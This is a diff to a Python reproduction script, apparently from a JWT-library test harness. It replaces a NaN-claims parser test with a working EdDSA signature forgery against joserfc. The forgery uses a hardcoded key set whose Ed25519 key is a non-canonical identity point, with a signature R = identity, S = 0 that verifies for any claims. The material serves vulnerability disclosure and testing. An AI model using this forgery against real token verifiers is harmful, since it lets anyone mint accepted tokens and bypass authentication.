@@ -1,54 +1,62 @@
 #!/usr/bin/env python3
-"""joserfc accepts a JWT whose claims set is not valid JSON: the payload holds the bare literal
-NaN ({"…","x":NaN}), which RFC 8259 does not allow. joserfc decodes the payload with Python's
-json.loads, which reads NaN as a float, and accepts the signed token.
+"""joserfc accepts a token signed by nobody: the key set's one Ed25519 key is the
+identity point in a non-canonical encoding (x = 0 with the sign bit set: x = "AQAA…AIA"), which
+is no valid public key, and the token's signature is R = the identity, S = 0, which verifies under
+that key for every message. The library loads the key without checking it (cryptography's
+Ed25519PublicKey.from_public_bytes, which takes any 32 bytes) and OpenSSL's Ed25519 verification
+accepts the signature, so anyone can mint tokens "signed" by such a key.
 
-RFC 7519 §7.2, step 10: "Verify that the resulting octet sequence is a UTF-8-encoded
-representation of a completely valid JSON object conforming to RFC 7159 [RFC7159]; let the JWT
-Claims Set be this JSON object."
+RFC 8037 §3.1.2: "Verification is performed by applying the verification algorithm defined in
+[RFC8032] to the public key (as public key) …"; RFC 8032 §5.1.3, decoding a point: "If x = 0, and
+x_0 = 1, decoding fails." (and §5.1.7 verifies only a public key A that decodes).
 
-Reproduces: json/payload-nan (parser-laxity)
+Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)
+
+(The same root cause accepts eddsa/key-non-canonical-identity-y-p-plus-1(-sign-bit),
+key-non-canonical-order2-sign-bit and key-non-canonical-order4-y-p(-sign-bit): other small-order
+points, non-canonically encoded. The library has no setting that checks an OKP key.)
 
 Run (after scripts/setup.sh): adapters/joserfc/.venv/bin/python adapters/joserfc/repro.py
-Configured as adapters/joserfc/adapter.py configures it; needs only joserfc.
+Configured as adapters/joserfc/adapter.py configures it; needs only joserfc (with cryptography).
+joserfc: KeySet.import_key_set -> OKPKey.import_key -> Ed25519PublicKey.from_public_bytes(x), no
+check; its EdDSA algorithm only warns that EdDSA is deprecated (RFC 9864).
 """
 
-import math
+import json
 import sys
+import warnings
 
 from joserfc import errors, jwt
 from joserfc.jwk import KeySet
 
-VECTOR = "json/payload-nan"
+VECTOR = "eddsa/key-non-canonical-identity-sign-bit"
 TOKEN = (
-    "eyJhbGciOiJFUzI1NiIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ"
-    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAw"
-    "MDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4"
-    "UjlTMFQxVjIiLCJ4IjpOYU59"
-    ".B8ubNa_RGc12rAfghsT_BTQdpleZwDSE9pY8BmpChdZwNGfx1QF0xRGePeeXEDbPQ_I_I7RiKLPeAy3rHHjBLw"
+    "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ"
+    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6"
+    "MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNL"
+    "NE01TjZQN1E4UjlTMFQxVjIifQ"
+    ".AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
 )
-JWKS = {"keys": [{"alg": "ES256", "crv": "P-256", "kid": "primary", "kty": "EC", "use": "sig",
-                  "x": "Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE",
-                  "y": "opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}
-ISSUER, AUDIENCES, ALGORITHMS, NOW, LEEWAY = "https://issuer.example", ["https://api.example"], ["ES256"], 1700000000, 0
+JWKS = {"keys": [{"alg": "EdDSA", "crv": "Ed25519", "kid": "ed25519", "kty": "OKP", "use": "sig",
+                  "x": "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}
+ISSUER, AUDIENCES, ALGORITHMS, NOW, LEEWAY = "https://issuer.example", ["https://api.example"], ["EdDSA"], 1700000000, 0
 REQUIRED = ("exp", "iat", "iss", "aud", "sub", "client_id", "jti")
 
 
 def main():
+    warnings.simplefilter("ignore")  # joserfc's SecurityWarning: "EdDSA is deprecated via RFC 9864"
     try:
-        token = jwt.decode(TOKEN, KeySet.import_key_set(JWKS), algorithms=ALGORITHMS)
+        token = jwt.decode(TOKEN, KeySet.import_key_set(json.loads(json.dumps(JWKS))), algorithms=ALGORITHMS)
         rules = {claim: {"essential": True} for claim in REQUIRED}
         rules.update(iss={"essential": True, "value": ISSUER}, aud={"essential": True, "values": AUDIENCES})
         jwt.JWTClaimsRegistry(now=NOW, leeway=LEEWAY, **rules).validate(token.claims)
+        claims = token.claims
     except errors.JoseError as error:
         print(f"NOT REPRODUCED {VECTOR}: joserfc rejected the token: {type(error).__name__}: {error}")
         return 1
-    x = token.claims.get("x")
-    if isinstance(x, float) and math.isnan(x):
-        print(f"REPRODUCED {VECTOR}: joserfc accepted a claims set holding the non-JSON literal NaN (claim x = {x!r})")
-        return 0
-    print(f"NOT REPRODUCED {VECTOR}: joserfc accepted, but claim x is {x!r}, not NaN")
-    return 1
+    print(f"REPRODUCED {VECTOR}: joserfc accepted a token whose EdDSA signature is R = identity, S = 0 under a "
+          f"non-canonical identity public key (a signature anyone can make for any claims): sub = {claims.get('sub')!r}")
+    return 0
 
 
 if __name__ == "__main__":
